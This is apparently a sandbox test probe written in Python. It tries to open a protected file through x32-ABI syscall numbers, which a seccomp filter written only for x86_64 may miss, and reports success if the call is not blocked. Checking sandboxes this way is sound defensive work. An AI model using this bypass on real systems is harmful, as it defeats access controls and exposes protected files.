"""
goal: call the kernel by the numbers of the third ABI, which a filter for the first may let through
effect: claim
needs: x86_64
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(0x40000000 | 2, SECRET_FILE.encode(), 0)
if ctypes.get_errno() not in (1,):
    print(CLAIM)
